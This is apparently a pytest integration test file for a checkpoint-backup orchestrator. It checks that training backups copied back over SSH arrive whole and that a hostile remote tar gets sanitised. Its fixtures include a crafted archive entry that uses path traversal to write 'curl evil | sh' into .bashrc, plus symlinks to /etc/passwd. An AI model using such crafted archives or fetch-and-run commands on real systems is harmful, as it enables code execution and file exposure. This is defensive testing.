"""Spot backups copied back through a file (never whole in memory) still make a correct, cleaned archive, over a
real sshd and from a machine whose ``tar`` is hostile; and the archive restores on a new machine."""

from __future__ import annotations

import io
import os
import sys
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from orchestrator.eviction import ARCHIVE, CheckpointKeeper
from orchestrator.machine import Access, Environment, Machine, Placement
from orchestrator.remote.session import Session
from orchestrator.remote.transport import LocalTransport, Transport
from tests.integration.test_ssh_transport import Factory, transport_to

WEIGHTS = os.urandom(1 << 20) * 3  # 3 MiB: many SSH channel windows, read in chunks


def _session(transport: Transport, run_dir: Path) -> Session:
    machine = Machine(
        run_id="r-copy", id="spot-1", provider="aws", placement=Placement(provider="aws", instance_type="g4dn.xlarge"),
        access=Access(via="local"), environment=Environment(prepare="image", python=sys.executable,
                                                            workdir=str(run_dir.parent)),
        run_dir=str(run_dir), launched_at=datetime.now(UTC),
    )
    return Session(machine, transport, run_dir=str(run_dir), python=sys.executable)


def _backups(run_dir: Path) -> None:
    """The payload's backups after three epochs, a link to a secret beside them, and a file outside them."""
    backup = run_dir / "checkpoints" / "accuracy-1"
    backup.mkdir(parents=True)
    (backup / "training_metadata.json").write_text('{"epoch": 3}')
    (backup / "model.weights.h5").write_bytes(WEIGHTS)
    (backup / "secret").symlink_to("/etc/passwd")
    (run_dir / "results.json").write_text("{}")


def _members(archive: Path) -> dict[str, bytes | None]:
    with tarfile.open(archive, mode="r:gz") as tar:
        return {m.name: (f.read() if (f := tar.extractfile(m)) is not None else None) if m.isfile() else None
                for m in tar.getmembers()}


def test_backups_copied_back_over_ssh_arrive_whole_and_cleaned_and_restore_on_a_new_machine(
    sshd: Factory, tmp_path: Path
) -> None:
    first, second = tmp_path / "box-1" / "run", tmp_path / "box-2" / "run"
    _backups(first)
    second.mkdir(parents=True)
    keeper = CheckpointKeeper(tmp_path / "home" / "checkpoints" / "r-copy")
    transport = transport_to(sshd(), tmp_path / "known_hosts")
    try:
        keeper.copy_back(_session(transport, first), 3)
        assert keeper.epochs == 3 and keeper.copies == 1
        assert sorted(p.name for p in keeper.directory.iterdir()) == [ARCHIVE]  # no .raw or .part left behind
        assert _members(keeper.archive) == {
            "checkpoints": None, "checkpoints/accuracy-1": None,
            "checkpoints/accuracy-1/model.weights.h5": WEIGHTS,
            "checkpoints/accuracy-1/training_metadata.json": b'{"epoch": 3}',
        }
        assert keeper.restore(_session(transport, second)) == "backups of 3 completed epoch(s) restored"
    finally:
        transport.close()
    restored = second / "checkpoints" / "accuracy-1"
    assert (restored / "model.weights.h5").read_bytes() == WEIGHTS
    assert sorted(p.name for p in restored.iterdir()) == ["model.weights.h5", "training_metadata.json"]
    assert not list(second.glob(f".{ARCHIVE}*"))  # the upload's .part was renamed, the archive removed


def test_a_hostile_tar_on_the_machine_gets_only_files_under_checkpoints_copied_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_dir = tmp_path / "box" / "run"
    _backups(run_dir)
    crafted = io.BytesIO()
    with tarfile.open(fileobj=crafted, mode="w") as tar:
        def add(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"x", link: str = "") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.size, info.linkname = kind, len(data) if kind == tarfile.REGTYPE else 0, link
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

        add("checkpoints", tarfile.DIRTYPE)
        add("checkpoints/accuracy-1/training_metadata.json", data=b'{"epoch": 3}')
        add("checkpoints/../../home/.bashrc", data=b"curl evil | sh")
        add("/checkpoints/abs")
        add("elsewhere/file")
        add("checkpoints/link", tarfile.SYMTYPE, link="/etc/passwd")
        add("checkpoints/hard", tarfile.LNKTYPE, link="checkpoints/accuracy-1/training_metadata.json")
        add("checkpoints/fifo", tarfile.FIFOTYPE)
    (tmp_path / "crafted.tar").write_bytes(crafted.getvalue())
    shim = tmp_path / "bin"
    shim.mkdir()
    (shim / "tar").write_text(f"#!/bin/sh\nexec cat {tmp_path / 'crafted.tar'}\n")
    (shim / "tar").chmod(0o755)
    monkeypatch.setenv("PATH", f"{shim}:{os.environ['PATH']}")  # the machine's tar is the shim
    keeper = CheckpointKeeper(tmp_path / "home" / "checkpoints" / "r-copy")
    keeper.copy_back(_session(LocalTransport(), run_dir), 3)
    assert _members(keeper.archive) == {
        "checkpoints": None, "checkpoints/accuracy-1/training_metadata.json": b'{"epoch": 3}'}
